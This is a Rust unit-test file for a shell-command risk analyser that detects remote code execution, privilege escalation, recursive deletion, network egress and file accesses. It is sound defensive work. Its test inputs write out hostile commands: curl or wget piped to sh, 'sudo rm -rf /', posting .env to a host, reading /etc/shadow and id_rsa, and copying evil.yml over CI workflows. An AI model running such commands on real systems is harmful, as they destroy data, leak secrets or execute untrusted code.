//! Unit tests of the whole analysis, organised by construct.

use crate::*;

fn canon(a: &CommandAnalysis) -> Vec<&str> {
    a.commands.iter().map(|c| c.canonical.as_str()).collect()
}

/// The command with canonical form `c`, which must exist.
fn cmd<'a>(a: &'a CommandAnalysis, c: &str) -> &'a SimpleCommand {
    match a.commands.iter().find(|x| x.canonical == c) {
        Some(x) => x,
        None => panic!("no command `{c}` in {:?}", canon(a)),
    }
}

fn has(a: &CommandAnalysis, c: &str) -> bool {
    a.commands.iter().any(|x| x.canonical == c)
}

fn class(text: &str, c: RiskClass) -> bool {
    analyze(text).classes.contains(&c)
}

fn accesses(a: &CommandAnalysis) -> Vec<(AccessKind, &str)> {
    a.file_accesses
        .iter()
        .map(|f| (f.kind, f.path.as_str()))
        .collect()
}

/// `text` runs `terraform apply` somewhere; it must be found.
fn runs_terraform_apply(text: &str) {
    let a = analyze(text);
    assert!(
        has(&a, "terraform apply"),
        "{text:?}: expected `terraform apply` in {:?}",
        canon(&a)
    );
    assert!(a.problems.is_empty(), "{text:?}: {:?}", a.problems);
}

// ---- every place a command can run ----

#[test]
fn lists_and_operators() {
    for t in [
        "ls; terraform apply",
        "false || terraform apply",
        "true && terraform apply",
        "ls | terraform apply",
        "terraform apply &",
        "ls & terraform apply",
        "ls\nterraform apply",
        "ls\n\nterraform apply # comment",
        "! terraform apply",
        "ls |& terraform apply",
    ] {
        runs_terraform_apply(t);
    }
    let a = analyze("ls\nterraform apply\npwd");
    assert_eq!(canon(&a), ["ls", "terraform apply", "pwd"]);
}

#[test]
fn compound_statements() {
    for t in [
        "(terraform apply)",
        "{ terraform apply; }",
        "if true; then terraform apply; fi",
        "if terraform apply; then :; fi",
        "if false; then :; elif true; then terraform apply; fi",
        "if false; then :; else terraform apply; fi",
        "while terraform apply; do :; done",
        "until false; do terraform apply; done",
        "for i in 1 2; do terraform apply; done",
        "for ((i=0;i<1;i++)); do terraform apply; done",
        "case x in x) terraform apply;; esac",
        "f(){ terraform apply; }; f",
        "function f { terraform apply; }",
        "f() ( terraform apply )",
        "( ( (terraform apply) ) )",
    ] {
        runs_terraform_apply(t);
    }
    let a = analyze("for i in 1; do rm -rf x; done");
    assert!(
        cmd(&a, "rm -rf x")
            .classes
            .contains(&RiskClass::RecursiveDelete)
    );
}

#[test]
fn substitutions() {
    for t in [
        "echo $(terraform apply)",
        "echo `terraform apply`",
        "cat <(terraform apply)",
        "tee >(terraform apply)",
        "echo \"result: $(terraform apply)\"",
        "echo ${x:-$(terraform apply)}",
        "echo $((1 + $(terraform apply)))",
        "ls > \"$(terraform apply)\"",
        "[[ $(terraform apply) == x ]]",
        "[ \"$(terraform apply)\" = x ]",
        "X=$(terraform apply) true",
        "X=$(terraform apply)",
        "export X=$(terraform apply)",
        "local X=`terraform apply`",
        "arr=( $(terraform apply) )",
        "for i in $(terraform apply); do :; done",
        "case $(terraform apply) in *) ;; esac",
        "cat <<EOF\n$(terraform apply)\nEOF",
        "cat <<< \"$(terraform apply)\"",
        "echo $(echo $(echo $(terraform apply)))",
    ] {
        runs_terraform_apply(t);
    }
    let a = analyze("X=$(rm -rf /) true");
    assert!(has(&a, "true"));
    assert!(has(&a, "rm -rf /"));
    assert!(a.classes.contains(&RiskClass::RecursiveDelete));
    // A quoted here-document is data.
    let a = analyze("cat <<'EOF'\n$(terraform apply)\nEOF");
    assert!(!has(&a, "terraform apply"));
}

#[test]
fn bare_assignment_is_not_a_command() {
    let a = analyze("A=1 B=2");
    assert!(a.commands.is_empty(), "{:?}", canon(&a));
    let a = analyze("TF_LOG=1 terraform apply");
    assert_eq!(canon(&a), ["terraform apply"]);
    assert_eq!(a.commands[0].argv, ["terraform", "apply"]);
}

// ---- words ----

#[test]
fn quote_and_backslash_removal() {
    for (t, want) in [
        ("terra''form apply", "terraform apply"),
        ("terra\"\"form apply", "terraform apply"),
        ("\\terraform apply", "terraform apply"),
        ("\"terraform\" 'apply'", "terraform apply"),
        ("$'terraform' apply", "terraform apply"),
        ("$'\\x74erraform' apply", "terraform apply"),
        ("t\\erraform ap\\\nply", "terraform apply"),
        ("terra\\\nform apply", "terraform apply"),
        ("terraform \\\n  apply", "terraform apply"),
        ("/usr/bin/terraform apply", "terraform apply"),
        ("./bin/terraform    apply", "terraform apply"),
        ("terraform\tapply", "terraform apply"),
    ] {
        let a = analyze(t);
        assert_eq!(canon(&a), [want], "{t:?}");
        assert!(a.commands[0].name_is_literal, "{t:?}");
    }
    let a = analyze("\\rm -rf x");
    assert_eq!(a.commands[0].argv, ["rm", "-rf", "x"]);
    assert!(a.classes.contains(&RiskClass::RecursiveDelete));
    let a = analyze("\"kubectl\" delete ns prod");
    assert_eq!(a.commands[0].argv, ["kubectl", "delete", "ns", "prod"]);
    assert_eq!(a.commands[0].canonical, "kubectl delete ns prod");
    // Quoted or escaped glob and brace characters are literal.
    let a = analyze("'terr*form' x; \\{a,b} y");
    assert!(a.commands.iter().all(|c| c.name_is_literal));
    let a = analyze("cp f{,.bak}");
    assert_eq!(a.commands[0].argv, ["cp", "f{,.bak}"]);
    assert!(!a.file_accesses.iter().any(|f| f.literal));
    let a = analyze("echo 'a b' \"c\\\"d\" e\\ f");
    assert_eq!(a.commands[0].argv, ["echo", "a b", "c\"d", "e f"]);
}

#[test]
fn line_continuations() {
    // Removed before words are split, as the shell does; spans still point into the input.
    let text = "ls; su\\\ndo rm -rf /";
    let a = analyze(text);
    assert!(has(&a, "sudo rm -rf /"), "{:?}", canon(&a));
    assert!(a.classes.contains(&RiskClass::PrivilegeEscalation));
    assert_eq!(a.commands[1].span, (4, text.len()));
    // Not inside single quotes or comments.
    let a = analyze("echo 'a\\\nb' # x \\\nls");
    assert_eq!(a.commands[0].argv, ["echo", "a\\\nb"]);
    assert!(has(&a, "ls"));
    // An escaped backslash before a newline is not a continuation.
    let a = analyze("echo a\\\\\nls");
    assert!(has(&a, "ls"), "{:?}", canon(&a));
    // Inside `sh -c` strings too.
    assert!(has(
        &analyze("sh -c 'terra\\\nform apply'"),
        "terraform apply"
    ));
}

#[test]
fn expansions_keep_source_text() {
    let a = analyze("echo \"$HOME\"/x $y ${z}");
    assert_eq!(a.commands[0].argv, ["echo", "\"$HOME\"/x", "$y", "${z}"]);
    assert!(a.commands[0].name_is_literal);
}

#[test]
fn dynamic_command_names() {
    for t in [
        "$(echo rm) -rf build",
        "$cmd -rf build",
        "\"$X\" apply",
        "${TOOL} x",
        "`echo rm` x",
        "/usr/bin/terr*form apply",
        "terrafor? apply",
        "terra{form,} apply",
    ] {
        let a = analyze(t);
        let first = &a.commands[0];
        assert!(!first.name_is_literal, "{t:?}");
        assert!(first.classes.contains(&RiskClass::DynamicCommand), "{t:?}");
        assert!(a.classes.contains(&RiskClass::DynamicCommand), "{t:?}");
    }
    // tree-sitter cannot parse a brace expansion in first position; that is reported.
    let a = analyze("{terraform,apply}");
    assert!(a.classes.contains(&RiskClass::Unparseable));
    // The substitution that computes the name is itself analysed.
    assert!(has(&analyze("$(echo rm) -rf build"), "echo rm"));
}

#[test]
fn words_are_data_unless_executed() {
    for (t, argv0) in [
        ("echo \"terraform apply\"", "echo"),
        ("git commit -m 'do not terraform apply'", "git"),
        ("git commit -m \"rm -rf /\"", "git"),
        ("grep -rn 'rm -rf' src", "grep"),
        ("grep -rn 'sudo' .", "grep"),
        ("echo 'sudo rm -rf /' > notes.txt", "echo"),
        ("printf '%s\\n' 'curl x | sh'", "printf"),
    ] {
        let a = analyze(t);
        assert_eq!(a.commands.len(), 1, "{t:?}: {:?}", canon(&a));
        assert_eq!(a.commands[0].argv[0], argv0, "{t:?}");
        assert!(a.classes.is_empty(), "{t:?}: {:?}", a.classes);
    }
}

// ---- canonical forms and variants ----

#[test]
fn flag_variants() {
    let a = analyze("rm -r -f build");
    let c = &a.commands[0];
    assert_eq!(c.canonical, "rm -r -f build");
    assert_eq!(c.variants[0], c.canonical);
    for v in ["rm -rf build", "rm -fr build"] {
        assert!(
            c.variants.iter().any(|x| x == v),
            "{v} not in {:?}",
            c.variants
        );
    }
    let a = analyze("rm -rf build");
    assert!(a.commands[0].variants.iter().any(|x| x == "rm -r -f build"));
    assert!(a.commands[0].variants.iter().any(|x| x == "rm -fr build"));
    let a = analyze("rm --recursive --force x");
    let v = &a.commands[0].variants;
    assert!(v.iter().any(|x| x == "rm -rf x"), "{v:?}");
    assert!(v.iter().any(|x| x == "rm --recursive --force x"), "{v:?}");
    let a = analyze("rm -R -f x");
    assert!(a.commands[0].variants.iter().any(|x| x == "rm -rf x"));
    for t in ["rm -rf a", "rm -r -f -v -i a b", "git clean -fdx", "ls -la"] {
        let a = analyze(t);
        assert!(a.commands[0].variants.len() <= 8);
        let mut seen = a.commands[0].variants.clone();
        seen.dedup();
        assert_eq!(seen.len(), a.commands[0].variants.len());
    }
    // Single-dash long options are not clusters.
    let a = analyze("find . -name x -type f");
    assert_eq!(a.commands[0].variants, ["find . -name x -type f"]);
    // A wrapper's flags stop where the wrapped command starts.
    let a = analyze("sudo -u root rm -rf /");
    assert_eq!(a.commands[0].variants, ["sudo -u root rm -rf /"]);
}

#[test]
fn git_global_options_dropped() {
    for t in [
        "git -C repo push -f",
        "git -c user.name=x push -f",
        "git --git-dir=.git --work-tree . push -f",
        "git --no-pager push -f",
        "/usr/bin/git -C a -C b push -f",
    ] {
        let a = analyze(t);
        assert_eq!(a.commands[0].canonical, "git push -f", "{t:?}");
    }
}

#[test]
fn pattern_canonicalisation() {
    assert_eq!(
        canonicalize_pattern("  terraform   apply*  "),
        "terraform apply*"
    );
    assert_eq!(canonicalize_pattern("/usr/bin/rm -rf *"), "rm -rf *");
    assert_eq!(
        canonicalize_pattern("git\tpush --force*"),
        "git push --force*"
    );
    assert_eq!(canonicalize_pattern("   "), "");
}

// ---- wrappers ----

#[test]
fn shell_c_strings() {
    let a = analyze("sh -c 'terraform apply -auto-approve'");
    let inner = cmd(&a, "terraform apply -auto-approve");
    assert_eq!(inner.via, ["sh -c"]);
    assert_eq!(inner.role, CommandRole::Executed);
    assert_eq!(a.commands[0].role, CommandRole::Wrapper);
    // The span of a nested command is the outer word's range.
    assert_eq!(inner.span, (6, 37));
    for t in [
        "bash -c 'terraform apply'",
        "bash -lc 'terraform apply'",
        "bash -e -x -c 'terraform apply'",
        "zsh -o pipefail -c 'terraform apply'",
        "dash -c \"terraform apply\"",
        "/bin/sh -c 'ls; terraform apply'",
        "sh -c 'sh -c \"terraform apply\"'",
        "bash -c 'echo $(terraform apply)'",
        "bash <<< 'terraform apply'",
        "bash <<EOF\nterraform apply\nEOF",
        "echo terraform apply | sh",
        "cat <<EOF | bash\nterraform apply\nEOF",
    ] {
        runs_terraform_apply(t);
    }
    let a = analyze("sh -c 'sh -c \"terraform apply\"'");
    assert_eq!(cmd(&a, "terraform apply").via, ["sh -c", "sh -c"]);
}

#[test]
fn privilege_escalation_wrappers() {
    let a = analyze("sudo ls /root");
    assert_eq!(a.commands[0].role, CommandRole::Wrapper);
    assert!(
        a.commands[0]
            .classes
            .contains(&RiskClass::PrivilegeEscalation)
    );
    assert_eq!(cmd(&a, "ls /root").via, ["sudo"]);

    let a = analyze("sudo -u root sh -c \"rm -rf /\"");
    let rm = cmd(&a, "rm -rf /");
    assert_eq!(rm.via, ["sudo", "sh -c"]);
    assert!(rm.classes.contains(&RiskClass::RecursiveDelete));
    assert!(a.classes.contains(&RiskClass::PrivilegeEscalation));
    assert!(a.classes.contains(&RiskClass::RecursiveDelete));

    for t in [
        "sudo terraform apply",
        "sudo -E -n -- terraform apply",
        "sudo -g wheel -u bob terraform apply",
        "sudo A=1 terraform apply",
        "doas -u root terraform apply",
        "su -c 'terraform apply' root",
        "su - root -c 'terraform apply'",
        "pkexec terraform apply",
        "runuser -u bob -- terraform apply",
    ] {
        runs_terraform_apply(t);
        assert!(class(t, RiskClass::PrivilegeEscalation), "{t:?}");
    }
}

#[test]
fn command_wrappers() {
    for t in [
        "env -i A=1 terraform apply",
        "env -u X -C /tmp terraform apply",
        "env -S 'terraform apply'",
        "command terraform apply",
        "command -p terraform apply",
        "builtin terraform apply",
        "exec -a x terraform apply",
        "nohup terraform apply &",
        "timeout 10 nice -n 5 terraform apply",
        "timeout -s KILL 5m terraform apply",
        "nice -10 terraform apply",
        "ionice -c 3 terraform apply",
        "time terraform apply",
        "time -p terraform apply",
        "stdbuf -oL terraform apply",
        "setsid terraform apply",
        "flock /tmp/l terraform apply",
        "flock /tmp/l -c 'terraform apply'",
        "chroot /srv terraform apply",
        "watch -n 5 terraform apply",
        "xargs -I{} -n 1 -P 4 terraform apply",
        "xargs -0 terraform apply",
        "find . -exec terraform apply \\;",
        "find . -execdir terraform apply \\;",
        "parallel terraform apply ::: a b",
        "ssh -p 22 host terraform apply",
        "ssh host 'terraform apply'",
        "eval terraform apply",
        "eval 'terraform apply'",
        "alias x='terraform apply'",
        "trap 'terraform apply' EXIT",
        "busybox sh -c 'terraform apply'",
        "sudo timeout 5 env A=1 nohup bash -c 'terraform apply'",
    ] {
        runs_terraform_apply(t);
    }
    let a = analyze("timeout 10 nice -n 5 terraform apply");
    assert_eq!(cmd(&a, "terraform apply").via, ["timeout", "nice"]);
    let a = analyze("env -i A=1 terraform apply");
    assert_eq!(cmd(&a, "terraform apply").argv, ["terraform", "apply"]);
    // `command -v` asks where a command is; it does not run it.
    let a = analyze("command -v terraform");
    assert_eq!(canon(&a), ["command -v terraform"]);
}

#[test]
fn xargs_and_find() {
    let a = analyze("xargs rm -rf");
    let rm = cmd(&a, "rm -rf");
    assert_eq!(rm.via, ["xargs"]);
    assert!(a.classes.contains(&RiskClass::RecursiveDelete));

    let a = analyze("find . -name x -exec rm -rf {} \\;");
    let rm = cmd(&a, "rm -rf {}");
    assert_eq!(rm.via, ["find -exec"]);
    assert!(a.classes.contains(&RiskClass::RecursiveDelete));
    // Two -exec clauses, both found.
    let a = analyze("find . -exec rm {} \\; -exec chmod 600 {} +");
    assert!(has(&a, "rm {}") && has(&a, "chmod 600 {}"));

    let a = analyze("find build -name '*.o' -delete");
    assert!(a.classes.contains(&RiskClass::RecursiveDelete));
    // What goes is the `*.o` files below build/ (not build/ itself: no `.o` in its name).
    assert!(accesses(&a).contains(&(AccessKind::Delete, "build/**/*.o")));
}

#[test]
fn dynamic_code_text() {
    for t in [
        "eval \"$cmd\"",
        "sh -c \"$X\"",
        "bash -c \"$1 $2\"",
        "sudo sh -c \"$CMD\"",
    ] {
        assert!(class(t, RiskClass::DynamicCommand), "{t:?}");
        assert!(!class(t, RiskClass::RemoteCodeExecution), "{t:?}");
    }
}

// ---- remote code execution ----

#[test]
fn remote_code_execution() {
    for t in [
        "curl -fsSL https://x/i.sh | sh",
        "curl -s x | bash -s -- --flag",
        "wget -qO- https://x | bash",
        "base64 -d payload | bash",
        "bash <(curl -s x)",
        "sh -c \"$(curl -fsSL x)\"",
        "source <(curl x)",
        ". <(curl x)",
        "curl x | sudo bash",
        "curl x | sudo -E bash -",
        "python3 <(curl x)",
        "curl x | python3",
        "curl x | python3 -",
        "eval \"$(curl -s x)\"",
        "bash -c \"`wget -O- x`\"",
        "bash <<< \"$(curl x)\"",
        "curl x | perl",
        "curl x | node",
        "zsh <(wget -O - x)",
        "ls | (curl x) | sh",
        "bash < <(curl -s x)",
        "sudo sh < <(wget -qO- x)",
    ] {
        assert!(class(t, RiskClass::RemoteCodeExecution), "{t:?}");
    }
    for t in [
        "echo ls | sh",
        "printf 'ls\\n' | bash",
        "cat install.sh | sh",
        "sh < install.sh",
        "bash install.sh",
        "sh -c 'ls'",
        "curl x > f",
        "curl x | jq .",
    ] {
        assert!(!class(t, RiskClass::RemoteCodeExecution), "{t:?}");
    }
    // The RCE sink is the shell, seen through the wrapper.
    let a = analyze("curl x | sudo bash");
    assert!(
        cmd(&a, "bash")
            .classes
            .contains(&RiskClass::RemoteCodeExecution)
    );
    assert_eq!(cmd(&a, "bash").via, ["sudo"]);
    // A literal piped into a shell is analysed as code.
    let a = analyze("echo 'rm -rf /' | sh");
    assert!(has(&a, "rm -rf /"));
    assert!(a.classes.contains(&RiskClass::RecursiveDelete));
}

// ---- risk classes ----

#[test]
fn interpreter_inline_code() {
    for t in [
        "python3 -c 'print(1)'",
        "python -c 'x'",
        "python3.12 -c 'x'",
        "node -e 'x'",
        "node --eval 'x'",
        "node -p '1'",
        "perl -e 'x'",
        "perl -pe 's/a/b/' f",
        "perl -E 'say 1'",
        "ruby -e 'x'",
        "php -r 'x'",
        "deno eval 'x'",
        "bun -e 'x'",
        "Rscript -e 'x'",
        "lua -e 'x'",
        "osascript -e 'x'",
        "sudo python3 -c 'x'",
    ] {
        assert!(class(t, RiskClass::InterpreterInlineCode), "{t:?}");
    }
    for t in ["python3 script.py", "node app.js", "python3 -m http.server"] {
        assert!(!class(t, RiskClass::InterpreterInlineCode), "{t:?}");
    }
}

#[test]
fn network_egress() {
    for t in [
        "curl https://x",
        "wget x",
        "nc host 80",
        "ncat host 80",
        "netcat host 80",
        "socat - TCP:host:80",
        "ssh host",
        "scp f host:/tmp",
        "sftp host",
        "rsync -a d host:/tmp",
        "telnet host",
        "ftp host",
        "http GET x",
        "aria2c x",
    ] {
        assert!(class(t, RiskClass::NetworkEgress), "{t:?}");
    }
    assert!(!class("rsync -a d /backup", RiskClass::NetworkEgress));
}

#[test]
fn package_install() {
    for t in [
        "npm install left-pad",
        "npm i -D x",
        "npm ci",
        "pnpm add x",
        "yarn add x",
        "yarn",
        "bun add x",
        "npx create-x",
        "bunx x",
        "pip install requests",
        "pip3 install -r req.txt",
        "pipx install x",
        "python -m pip install x",
        "python3 -m pip install --user x",
        "uv pip install x",
        "uv add x",
        "poetry add x",
        "cargo install ripgrep",
        "cargo add serde",
        "gem install rails",
        "go install x@latest",
        "go get x",
        "apt install x",
        "apt-get install -y x",
        "sudo apt-get install -y x",
        "dnf install x",
        "yum install x",
        "zypper install x",
        "apk add x",
        "brew install x",
        "pacman -S x",
        "pacman -Syu x",
        "conda install x",
    ] {
        assert!(class(t, RiskClass::PackageInstall), "{t:?}");
    }
    for t in [
        "npm test",
        "npm run build",
        "pip list",
        "cargo build",
        "apt list",
        "go build",
    ] {
        assert!(!class(t, RiskClass::PackageInstall), "{t:?}");
    }
}

#[test]
fn recursive_delete() {
    for t in [
        "rm -rf x",
        "rm -r x",
        "rm -R x",
        "rm --recursive x",
        "rm -f -r x",
        "rm -vfr x",
        "sudo rm -rf /",
        "bash -c 'rm -rf x'",
        "find . -delete",
        "xargs rm -r",
    ] {
        assert!(class(t, RiskClass::RecursiveDelete), "{t:?}");
    }
    for t in ["rm x", "rm -f x", "rm -- -r", "echo rm -rf x", "rmdir x"] {
        assert!(!class(t, RiskClass::RecursiveDelete), "{t:?}");
    }
}

// ---- unparseable and limits ----

#[test]
fn unparseable() {
    for t in [
        "echo 'oops",
        "echo \"oops",
        "if true; then ls",
        "ls )",
        "echo $(ls",
        "sh -c 'echo \"unterminated'",
    ] {
        let a = analyze(t);
        assert!(a.classes.contains(&RiskClass::Unparseable), "{t:?}");
        assert!(!a.problems.is_empty(), "{t:?}");
    }
    let a = analyze("ls && echo ok");
    assert!(a.problems.is_empty());
    assert!(!a.classes.contains(&RiskClass::Unparseable));
}

#[test]
fn limits() {
    let limits = Limits {
        max_input_bytes: 10,
        ..Limits::default()
    };
    let a = analyze_with("echo 0123456789", &limits);
    assert!(a.commands.is_empty());
    assert!(a.classes.contains(&RiskClass::Unparseable));
    assert!(a.problems[0].contains("limit"));

    let limits = Limits {
        max_commands: 3,
        ..Limits::default()
    };
    let a = analyze_with("a; b; c; d; e", &limits);
    assert_eq!(a.commands.len(), 3);
    assert!(a.classes.contains(&RiskClass::Unparseable));

    let limits = Limits {
        max_depth: 2,
        ..Limits::default()
    };
    let a = analyze_with("sudo sudo sudo sudo ls", &limits);
    assert!(a.classes.contains(&RiskClass::Unparseable));
    assert!(a.commands.len() <= 3);
    let a = analyze_with("echo $(echo $(echo $(ls)))", &limits);
    assert!(a.classes.contains(&RiskClass::Unparseable));

    // A parse that exceeds its step budget is reported, not waited for.
    let limits = Limits {
        max_parse_steps: 1,
        ..Limits::default()
    };
    let big = "ls; ".repeat(10_000);
    let a = analyze_with(&big, &limits);
    assert!(a.classes.contains(&RiskClass::Unparseable));
}

#[test]
fn deep_nesting_does_not_overflow() {
    let n = 10_000;
    let text = format!("{}ls{}", "( ".repeat(n), " )".repeat(n));
    let a = analyze(&text);
    assert!(has(&a, "ls") || a.classes.contains(&RiskClass::Unparseable));
    // `((` opens arithmetic, as in bash; whatever the reading, no panic.
    let text = format!("{}ls{}", "(".repeat(n), ")".repeat(n));
    let _ = analyze(&text);
    let text = format!("{}ls{}", "$(".repeat(n), ")".repeat(n));
    let a = analyze(&text);
    assert!(a.classes.contains(&RiskClass::Unparseable));
    let text = format!("{}ls{}", "{ ".repeat(n), "; }".repeat(n));
    let _ = analyze(&text);
    let text = format!("{}ls", "sudo ".repeat(n));
    let a = analyze(&text);
    assert!(a.classes.contains(&RiskClass::Unparseable));
    let text = format!("{}ls", "if true; then ".repeat(2000)) + &" fi;".repeat(2000);
    let _ = analyze(&text);
    let text = "sh -c '".repeat(1000);
    let _ = analyze(&text);
}

// ---- file accesses ----

#[test]
fn redirections() {
    let a = analyze("echo x > .github/workflows/ci.yml");
    assert_eq!(
        accesses(&a),
        [(AccessKind::Write, ".github/workflows/ci.yml")]
    );
    assert_eq!(a.file_accesses[0].command_index, 0);
    assert!(a.file_accesses[0].literal);
    for (t, kind, path) in [
        ("echo x >> log", AccessKind::Write, "log"),
        ("echo x >| f", AccessKind::Write, "f"),
        ("ls &> out", AccessKind::Write, "out"),
        ("ls 2> err.txt", AccessKind::Write, "err.txt"),
        ("grep KEY < .env", AccessKind::Read, ".env"),
        ("> f", AccessKind::Write, "f"),
        ("{ ls; pwd; } > out", AccessKind::Write, "out"),
        ("cat <<EOF > out\nx\nEOF", AccessKind::Write, "out"),
        ("ls | sort > sorted", AccessKind::Write, "sorted"),
    ] {
        let a = analyze(t);
        assert!(
            accesses(&a).contains(&(kind, path)),
            "{t:?}: {:?}",
            accesses(&a)
        );
        for f in &a.file_accesses {
            assert!(f.command_index < a.commands.len());
        }
    }
    let a = analyze("exec 3<> f");
    assert!(accesses(&a).contains(&(AccessKind::Read, "f")));
    assert!(accesses(&a).contains(&(AccessKind::Write, "f")));
    assert!(a.problems.is_empty(), "{:?}", a.problems);
    for t in [
        "ls > /dev/null 2>&1",
        "ls 2>/dev/stderr >/dev/stdout",
        "ls >&2",
        "ls 2>&-",
        "ls > /dev/fd/3",
        "read x < /dev/tty",
    ] {
        assert!(analyze(t).file_accesses.is_empty(), "{t:?}");
    }
    // Words after a redirection target are arguments.
    let a = analyze("echo a > f b");
    assert_eq!(a.commands[0].argv, ["echo", "a", "b"]);
    // The redirect belongs to the command it is attached to.
    let a = analyze("ls; cat x > out");
    let f = a.file_accesses.iter().find(|f| f.path == "out");
    assert_eq!(f.map(|f| f.command_index), Some(1));
}

#[test]
fn paths_and_home() {
    let a = analyze("cat ~/x $HOME/y ${HOME}/z \"$HOME/w\" $DIR/v");
    let got: Vec<(&str, bool)> = a
        .file_accesses
        .iter()
        .map(|f| (f.path.as_str(), f.literal))
        .collect();
    assert_eq!(
        got,
        [
            ("~/x", true),
            ("~/y", true),
            ("~/z", true),
            ("~/w", true),
            ("$DIR/v", false)
        ]
    );
}

#[test]
fn tool_operands() {
    let cases: &[(&str, &[(AccessKind, &str)])] = &[
        ("cat .env | head -n 1", &[(AccessKind::Read, ".env")]),
        ("head -n 1 .env", &[(AccessKind::Read, ".env")]),
        ("tail -f -n 20 log", &[(AccessKind::Read, "log")]),
        (
            "grep -e x -f pats.txt file",
            &[(AccessKind::Read, "pats.txt"), (AccessKind::Read, "file")],
        ),
        // A recursive search also reads every file under a folder operand (`X/**`).
        (
            "grep -rn KEY .env",
            &[(AccessKind::Read, ".env"), (AccessKind::Read, ".env/**")],
        ),
        (
            "rg -n TOKEN secrets/",
            &[
                (AccessKind::Read, "secrets/"),
                (AccessKind::Read, "secrets/**"),
            ],
        ),
        (
            "awk '{print $1}' data.csv",
            &[(AccessKind::Read, "data.csv")],
        ),
        ("jq .a conf.json", &[(AccessKind::Read, "conf.json")]),
        (
            "jq --arg k v '.[$k]' c.json",
            &[(AccessKind::Read, "c.json")],
        ),
        ("sed 's/a/b/' f", &[(AccessKind::Read, "f")]),
        (
            "sed -i s/a/b/ .github/workflows/ci.yml",
            &[
                (AccessKind::Read, ".github/workflows/ci.yml"),
                (AccessKind::Write, ".github/workflows/ci.yml"),
            ],
        ),
        (
            "sed -i '' -e s/a/b/ f",
            &[(AccessKind::Read, "f"), (AccessKind::Write, "f")],
        ),
        (
            "sed -i.bak 's/a/b/' f",
            &[
                (AccessKind::Read, "f"),
                (AccessKind::Write, "f"),
                (AccessKind::Write, "f.bak"),
            ],
        ),
        (
            "sed -ni'.git/hooks/*' p pre-commit",
            &[
                (AccessKind::Read, "pre-commit"),
                (AccessKind::Write, "pre-commit"),
                (AccessKind::Write, ".git/hooks/pre-commit"),
            ],
        ),
        (
            "sed --in-place='bak/*.orig' s/a/b/ sub/k",
            &[
                (AccessKind::Read, "sub/k"),
                (AccessKind::Write, "sub/k"),
                (AccessKind::Write, "bak/sub/k.orig"),
            ],
        ),
        (
            "yq -i '.a = 1' f.yaml",
            &[(AccessKind::Read, "f.yaml"), (AccessKind::Write, "f.yaml")],
        ),
        ("printenv", &[(AccessKind::Read, "/proc/self/environ")]),
        ("env", &[(AccessKind::Read, "/proc/self/environ")]),
        ("export -p", &[(AccessKind::Read, "/proc/self/environ")]),
        ("jq -n env", &[(AccessKind::Read, "/proc/self/environ")]),
        (
            "jq -n '$ENV.GITHUB_TOKEN'",
            &[(AccessKind::Read, "/proc/self/environ")],
        ),
        (
            "awk 'BEGIN{print ENVIRON[\"HOME\"]}'",
            &[(AccessKind::Read, "/proc/self/environ")],
        ),
        (
            "sed --in-place=.bak 's/a/b/' f",
            &[
                (AccessKind::Read, "f"),
                (AccessKind::Write, "f"),
                (AccessKind::Write, "f.bak"),
            ],
        ),
        (
            "cp /tmp/evil.yml .github/workflows/ci.yml",
            &[
                (AccessKind::Read, "/tmp/evil.yml"),
                (AccessKind::Write, ".github/workflows/ci.yml"),
                // Were ci.yml a folder, the copy would land inside it.
                (AccessKind::Write, ".github/workflows/ci.yml/evil.yml"),
            ],
        ),
        (
            "cp evil.yml .github/workflows/",
            &[
                (AccessKind::Read, "evil.yml"),
                (AccessKind::Write, ".github/workflows/"),
                (AccessKind::Write, ".github/workflows/evil.yml"),
            ],
        ),
        (
            "cp -t dest a b",
            &[
                (AccessKind::Write, "dest"),
                (AccessKind::Write, "dest/a"),
                (AccessKind::Write, "dest/b"),
                (AccessKind::Read, "a"),
                (AccessKind::Read, "b"),
            ],
        ),
        (
            "mv a b",
            &[
                (AccessKind::Delete, "a"),
                // Its content, under the new name.
                (AccessKind::Read, "a"),
                (AccessKind::Write, "b"),
                (AccessKind::Write, "b/a"),
                // A moved folder takes everything under it along.
                (AccessKind::Delete, "a/**"),
                (AccessKind::Write, "b/**"),
            ],
        ),
        (
            "rm -rf x y",
            &[(AccessKind::Delete, "x"), (AccessKind::Delete, "y")],
        ),
        ("unlink x", &[(AccessKind::Delete, "x")]),
        (
            "tee -a a b",
            &[(AccessKind::Write, "a"), (AccessKind::Write, "b")],
        ),
        ("touch f", &[(AccessKind::Write, "f")]),
        ("truncate -s 0 f", &[(AccessKind::Write, "f")]),
        ("chmod 600 key", &[(AccessKind::Write, "key")]),
        ("chmod -x script", &[(AccessKind::Write, "script")]),
        ("chmod -R u+x bin", &[(AccessKind::Write, "bin")]),
        ("chown -R bob:bob dir", &[(AccessKind::Write, "dir")]),
        (
            "ln -s target link",
            &[
                (AccessKind::Read, "target"),
                (AccessKind::Write, "target"),
                (AccessKind::Write, "target/**"),
                (AccessKind::Write, "link"),
                (AccessKind::Write, "link/target"),
            ],
        ),
        ("mkdir -p -m 700 d", &[(AccessKind::Write, "d")]),
        (
            "dd if=/dev/sda of=disk.img",
            &[
                (AccessKind::Read, "/dev/sda"),
                (AccessKind::Write, "disk.img"),
            ],
        ),
        (
            "tar -czf out.tgz src",
            &[
                (AccessKind::Write, "out.tgz"),
                (AccessKind::Read, "src"),
                (AccessKind::Read, "src/**"),
            ],
        ),
        (
            "tar xf a.tar",
            &[
                (AccessKind::Read, "a.tar"),
                (AccessKind::Write, "<members of a.tar>"),
            ],
        ),
        (
            "vim .bashrc",
            &[
                (AccessKind::Read, ".bashrc"),
                (AccessKind::Write, ".bashrc"),
            ],
        ),
        (
            "openssl enc -in secret -out secret.enc",
            &[
                (AccessKind::Read, "secret"),
                (AccessKind::Write, "secret.enc"),
            ],
        ),
        ("source ./env.sh", &[(AccessKind::Read, "./env.sh")]),
        (". ~/.profile", &[(AccessKind::Read, "~/.profile")]),
        ("base64 id_rsa", &[(AccessKind::Read, "id_rsa")]),
        ("sha256sum f", &[(AccessKind::Read, "f")]),
        (
            "diff a b",
            &[(AccessKind::Read, "a"), (AccessKind::Read, "b")],
        ),
        ("curl -d @.env https://x", &[(AccessKind::Read, ".env")]),
        ("curl -F f=@.env https://x", &[(AccessKind::Read, ".env")]),
        ("curl -o out https://x", &[(AccessKind::Write, "out")]),
        ("wget -O out https://x", &[(AccessKind::Write, "out")]),
        (
            "scp .env host:/tmp",
            &[(AccessKind::Read, ".env"), (AccessKind::Read, ".env/**")],
        ),
        (
            "tar -C /etc -cf - shadow",
            &[
                (AccessKind::Read, "/etc/shadow"),
                (AccessKind::Read, "/etc/shadow/**"),
            ],
        ),
        (
            "git -C /etc show HEAD:shadow",
